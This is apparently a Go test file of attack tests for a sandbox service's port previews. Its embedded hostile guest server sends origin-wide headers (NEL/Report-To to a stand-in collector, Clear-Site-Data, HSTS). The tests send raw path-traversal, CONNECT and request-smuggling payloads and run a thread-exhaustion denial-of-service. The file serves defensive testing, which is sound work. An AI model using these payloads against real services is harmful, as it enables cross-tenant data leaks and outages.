package server

// Attack tests of port previews (ports.go, live/preview.go): each test
// either reproduces a finding (it fails until the finding is fixed) or
// proves that a defence holds. A guest is an attacker that controls
// every byte its port answers; a caller with a preview's URL is anyone.

import (
	"bufio"
	"context"
	"crypto/tls"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/opensubstrate/sandbox/client"
)

// attackGuest is a guest's server, on 8000 (hostile answers by path)
// and 8001 (a port the preview does not expose, saying so). Both are
// bound before the exec returns.
const attackGuest = `
import http.server, os, socket, sys, threading
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        p = self.path
        if p.startswith("/ws"):
            self.wfile.write(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
            c = self.connection
            while True:
                try:
                    b = c.recv(4096)
                except OSError:
                    break
                if not b:
                    break
                c.sendall(b)
            self.close_connection = True
            return
        if p.startswith("/switch"):
            self.wfile.write(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: evil\r\nConnection: Upgrade\r\n\r\nRAW-BYTES-AFTER-101")
            self.close_connection = True
            return
        if p.startswith("/redirect"):
            self.send_response(302)
            self.send_header("Location", "http://127.0.0.1:8001/secret")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = ("GUEST8000|%s|%s|%s" % (p, self.headers.get("Cookie", "-"), self.headers.get("Host", "-"))).encode()
        self.send_response(200)
        if p.startswith("/headers"):
            self.send_header("NEL", '{"report_to":"g","max_age":86400,"include_subdomains":true,"success_fraction":1.0}')
            self.send_header("Report-To", '{"group":"g","max_age":86400,"endpoints":[{"url":"https://collector.example/r"}]}')
            self.send_header("Reporting-Endpoints", 'g="https://collector.example/r"')
            self.send_header("Clear-Site-Data", '"cookies", "storage"')
            self.send_header("Strict-Transport-Security", "max-age=31536000; includeSubDomains")
            self.send_header("Alt-Svc", 'h2="collector.example:443"; ma=86400')
            self.send_header("Content-Security-Policy", "sandbox allow-scripts allow-same-origin")
            self.send_header("Connection", "Content-Security-Policy")
        if p.startswith("/js"):
            self.send_header("Content-Type", "text/javascript")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_POST = do_GET
    def log_message(self, *a):
        pass
class Other(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", "9")
        self.end_headers()
        self.wfile.write(b"PORT-8001")
    def log_message(self, *a):
        pass
a = http.server.ThreadingHTTPServer(("127.0.0.1", 8000), H)
b = http.server.ThreadingHTTPServer(("127.0.0.1", 8001), Other)
if os.fork():
    os._exit(0)
os.setsid()
fd = os.open("/dev/null", os.O_RDWR)
for i in (0, 1, 2):
    os.dup2(fd, i)
threading.Thread(target=b.serve_forever, daemon=True).start()
a.serve_forever()
`

// lockedBuf is a log sink the handler and the test share.
type lockedBuf struct {
	mu sync.Mutex
	b  strings.Builder
}

func (l *lockedBuf) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}
func (l *lockedBuf) String() string { l.mu.Lock(); defer l.mu.Unlock(); return l.b.String() }

// previewRig is a service with previews on a TLS listener, one S1
// sandbox (listen 8000, 8001) running attackGuest, and a preview of its
// port 8000.
type previewRig struct {
	c    *client.Client
	s    *Server
	ts   *httptest.Server
	log  *lockedBuf
	sb   string
	p    *client.Preview
	addr string
}

func newPreviewRig(t testing.TB, ttl int64) *previewRig {
	t.Helper()
	_, s, c := serve(t)
	logs := &lockedBuf{}
	s.Log = slog.New(slog.NewTextHandler(logs, nil))
	ts := httptest.NewUnstartedServer(nil)
	ts.Config.Handler = s.WithPreviews(s.TCP(s.Handler()), ts.Listener.Addr().String())
	ts.StartTLS()
	t.Cleanup(ts.Close)
	ctx := context.Background()
	sb, err := c.Create(ctx, client.SandboxSpec{Listen: []int{8000, 8001}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Exec(ctx, sb.ID, client.ExecSpec{Args: []string{"/usr/bin/python3", "-c", attackGuest}}, io.Discard, io.Discard); err != nil {
		t.Fatal(err)
	}
	p, err := c.Expose(ctx, sb.ID, client.PreviewSpec{Port: 8000, TTLSeconds: ttl})
	if err != nil {
		t.Fatal(err)
	}
	return &previewRig{c: c, s: s, ts: ts, log: logs, sb: sb.ID, p: p, addr: ts.Listener.Addr().String()}
}

// raw sends one request, written as is, on a new TLS connection and
// reads the answer (nil when the service wrote none it could parse).
func (r *previewRig) raw(t *testing.T, req string) (*http.Response, string) {
	t.Helper()
	conn, err := tls.Dial("tcp", r.addr, &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(20 * time.Second))
	if _, err := io.WriteString(conn, req); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		return nil, ""
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b)
}

// get asks u (a path on the service, or a URL) with a browser's client
// that does not follow redirects.
func (r *previewRig) get(t *testing.T, u string, header ...string) (*http.Response, string) {
	t.Helper()
	if strings.HasPrefix(u, "/") {
		u = "https://" + r.addr + u
	}
	cl := r.ts.Client()
	cl.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	req, _ := http.NewRequest("GET", u, nil)
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := cl.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b)
}

// FOUND (medium), fixed (originHeaders): a guest's response headers that act on the whole
// origin — the service's, shared with the console and every tenant's
// previews — are passed on. NEL + Report-To make a Chromium browser
// report every later request to the origin (full URL: other tenants'
// preview tokens, console paths) to the guest's collector;
// Clear-Site-Data wipes the origin's storage (the console's token in
// sessionStorage) and the site's cookies; Strict-Transport-Security
// with includeSubDomains and Alt-Svc bind the host for a year.
func TestAttackPreviewOriginWideHeadersPassed(t *testing.T) {
	r := newPreviewRig(t, 0)
	resp, body := r.get(t, r.p.URL+"headers")
	if resp.StatusCode != 200 || !strings.HasPrefix(body, "GUEST8000|/headers") {
		t.Fatalf("GET through the preview: %d %q", resp.StatusCode, body)
	}
	var passed []string
	for _, h := range []string{"NEL", "Report-To", "Reporting-Endpoints", "Clear-Site-Data", "Strict-Transport-Security", "Alt-Svc"} {
		if v := resp.Header.Get(h); v != "" {
			passed = append(passed, h+": "+v)
		}
	}
	if len(passed) > 0 {
		t.Errorf("a guest's origin-wide response headers reach the browser on the service's origin:\n  %s", strings.Join(passed, "\n  "))
	}
}

// FOUND (low/medium, deployment-dependent), fixed (previewCookies): the browser's Cookie
// header is passed to the guest. Cookies are not kept apart by port,
// so every Path=/ cookie of the service's host name (another app on
// :443, a Domain=parent SSO cookie, HttpOnly ones included) reaches
// the guest's server, which can send it anywhere.
func TestAttackPreviewForwardsHostCookiesToGuest(t *testing.T) {
	r := newPreviewRig(t, 0)
	_, body := r.get(t, r.p.URL+"echo", "Cookie", "sso_session=HOST-WIDE-SECRET")
	if strings.Contains(body, "HOST-WIDE-SECRET") {
		t.Errorf("the guest received the browser's cookies for the service's host: %q", body)
	}
}

// DEFENCE: nothing but the exposed port of the exposed sandbox is
// reached, whatever the path, Host or request form says; the API is
// never reached with the preview's token as a credential; the token is
// never logged, even on odd request forms.
func TestAttackPreviewReachesOnlyItsPort(t *testing.T) {
	r := newPreviewRig(t, 0)
	tok := r.p.Token
	for _, req := range []string{
		"GET /preview/" + tok + "/../../v1/sandboxes HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET /preview/" + tok + "/%2e%2e/%2e%2e/v1/sandboxes HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET /preview/" + tok + "/..%2f..%2fv1%2fsandboxes HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET //preview/" + tok + "/x HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET /preview//" + tok + "/x HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET /preview/" + tok + "//127.0.0.1:8001/ HTTP/1.1\r\nHost: 127.0.0.1:8001\r\n\r\n",
		"GET http://127.0.0.1:8001/preview/" + tok + "/abs HTTP/1.1\r\nHost: 127.0.0.1:8001\r\n\r\n",
		"GET /preview/" + tok + "/h HTTP/1.1\r\nHost: 127.0.0.1:8001\r\nX-Forwarded-Host: 127.0.0.1:8001\r\n\r\n",
		"CONNECT 127.0.0.1:8001 HTTP/1.1\r\nHost: 127.0.0.1:8001\r\n\r\n",
		"CONNECT /preview/" + tok + "/c HTTP/1.1\r\nHost: 127.0.0.1:8001\r\n\r\n",
		"GET /preview/" + tok + "/s HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/sandboxes HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET /preview/" + tok + "/r HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer anything\r\nSandbox-Policy: x\r\nSandbox-Placement: y\r\n\r\n",
		"GET /v1/sandboxes HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + tok + "\r\n\r\n",
	} {
		resp, body := r.raw(t, req)
		line := strings.SplitN(req, "\r\n", 2)[0]
		if resp != nil {
			t.Logf("%s -> %d %s %q", line, resp.StatusCode, resp.Header.Get("Location"), body)
		} else {
			t.Logf("%s -> no answer", line)
		}
		if strings.Contains(body, "PORT-8001") || strings.Contains(body, r.sb) {
			t.Errorf("%s: reached what is not the exposed port: %v %q", line, resp != nil && resp.StatusCode != 0, body)
		}
		if resp != nil && resp.StatusCode == 200 && !strings.HasPrefix(body, "GUEST8000|") {
			t.Errorf("%s: 200 from something other than the guest's port: %q", line, body)
		}
		if strings.HasPrefix(body, "GUEST8000|") && (!strings.HasSuffix(body, "|localhost") || strings.Contains(body, "anything")) {
			t.Errorf("%s: the guest saw the caller's Host or credentials: %q", line, body)
		}
	}
	if strings.Contains(r.log.String(), tok) {
		t.Errorf("the service's log holds the preview's token:\n%s", r.log.String())
	}
}

// DEFENCE: a guest's redirect to another port is passed to the browser,
// never followed by the service; a 101 the caller did not ask for is
// refused; a guest's own CSP (even one naming allow-same-origin) cannot
// lift the sandbox, nor can a Connection header strip it.
func TestAttackPreviewGuestAnswersContained(t *testing.T) {
	r := newPreviewRig(t, 0)
	resp, body := r.get(t, r.p.URL+"redirect")
	if resp.StatusCode != 302 || strings.Contains(body, "PORT-8001") {
		t.Fatalf("the guest's redirect: %d %q", resp.StatusCode, body)
	}
	resp, body = r.get(t, r.p.URL+"switch")
	if resp.StatusCode == 101 || strings.Contains(body, "RAW-BYTES") {
		t.Fatalf("a 101 nobody asked for: %d %q", resp.StatusCode, body)
	}
	resp, _ = r.get(t, r.p.URL+"headers")
	var ours bool
	for _, v := range resp.Header.Values("Content-Security-Policy") {
		if v == previewCSP {
			ours = true
		}
	}
	if !ours {
		t.Fatalf("the preview's own CSP is missing beside the guest's: %q", resp.Header.Values("Content-Security-Policy"))
	}
}

// DEFENCE: an upgraded connection (WebSocket) through a preview is cut
// when the preview is revoked, and ends at its expiry.
func TestAttackPreviewUpgradeEndsWithPreview(t *testing.T) {
	open := func(r *previewRig) (net.Conn, *bufio.Reader) {
		t.Helper()
		conn, err := tls.Dial("tcp", r.addr, &tls.Config{InsecureSkipVerify: true})
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(conn, "GET /preview/"+r.p.Token+"/ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
		br := bufio.NewReader(conn)
		conn.SetDeadline(time.Now().Add(20 * time.Second))
		resp, err := http.ReadResponse(br, nil)
		if err != nil || resp.StatusCode != 101 {
			t.Fatalf("upgrade: %v %v", resp, err)
		}
		io.WriteString(conn, "ping")
		b := make([]byte, 4)
		if _, err := io.ReadFull(br, b); err != nil || string(b) != "ping" {
			t.Fatalf("echo: %q %v", b, err)
		}
		return conn, br
	}
	stillOpen := func(conn net.Conn, br *bufio.Reader, within time.Duration) bool {
		conn.SetDeadline(time.Now().Add(within))
		io.WriteString(conn, "more")
		b := make([]byte, 4)
		_, err := io.ReadFull(br, b)
		return err == nil
	}

	t.Run("revoked", func(t *testing.T) {
		r := newPreviewRig(t, 0)
		conn, br := open(r)
		defer conn.Close()
		if n, err := r.c.Unexpose(context.Background(), r.sb, 8000); n != 1 || err != nil {
			t.Fatalf("revoke: %d %v", n, err)
		}
		time.Sleep(200 * time.Millisecond)
		if stillOpen(conn, br, 5*time.Second) {
			t.Fatal("an upgraded connection outlives its preview's revocation")
		}
	})
	t.Run("expired", func(t *testing.T) {
		r := newPreviewRig(t, 3)
		conn, br := open(r)
		defer conn.Close()
		time.Sleep(time.Until(r.p.Expires) + 500*time.Millisecond)
		if stillOpen(conn, br, 5*time.Second) {
			t.Fatal("an upgraded connection outlives its preview's expiry")
		}
	})
}

// FOUND (high), fixed, end to end: the dials of live.Manager.DialPreview
// (each an OS thread locked in the sandbox's namespace until its
// connect returns) are reached by anyone with the URL, no token asked,
// with no bound on requests in flight per preview and no dial timeout
// but the request's own. A guest that never accepts (listen(0)) turns
// each open request into a pinned thread: at Go's 10000-thread limit
// the service dies (fatal error: thread exhaustion), every tenant's
// live sandbox with it.
func TestAttackPreviewRequestsPinThreads(t *testing.T) {
	_, s, c := serve(t)
	ts := httptest.NewUnstartedServer(nil)
	ts.Config.Handler = s.WithPreviews(s.TCP(s.Handler()), ts.Listener.Addr().String())
	ts.StartTLS()
	t.Cleanup(ts.Close)
	ctx := context.Background()
	sb, err := c.Create(ctx, client.SandboxSpec{Listen: []int{8002}})
	if err != nil {
		t.Fatal(err)
	}
	prog := `
import os, socket, time
s = socket.socket()
s.bind(("127.0.0.1", 8002))
s.listen(0)
if os.fork():
    os._exit(0)
os.setsid()
time.sleep(100000)
`
	if _, err := c.Exec(ctx, sb.ID, client.ExecSpec{Args: []string{"/usr/bin/python3", "-c", prog}}, io.Discard, io.Discard); err != nil {
		t.Fatal(err)
	}
	p, err := c.Expose(ctx, sb.ID, client.PreviewSpec{Port: 8002})
	if err != nil {
		t.Fatal(err)
	}
	before := procThreads(t)
	const n = 300
	rctx, cancel := context.WithCancel(ctx)
	tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, MaxConnsPerHost: 0, MaxIdleConnsPerHost: n}
	var wg sync.WaitGroup
	for range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			req, _ := http.NewRequestWithContext(rctx, "GET", p.URL, nil)
			if resp, err := tr.RoundTrip(req); err == nil {
				resp.Body.Close()
			}
		}()
	}
	time.Sleep(4 * time.Second)
	during := procThreads(t)
	cancel()
	wg.Wait()
	t.Logf("service process threads: %d before, %d with %d preview requests open", before, during, n)
	if during-before > 64 {
		t.Errorf("%d open preview requests, no token, hold %d more OS threads of the service", n, during-before)
	}
}

// procThreads is this process's thread count.
func procThreads(t *testing.T) int {
	t.Helper()
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "Threads:"); ok {
			n, _ := strconv.Atoi(strings.TrimSpace(v))
			return n
		}
	}
	return 0
}
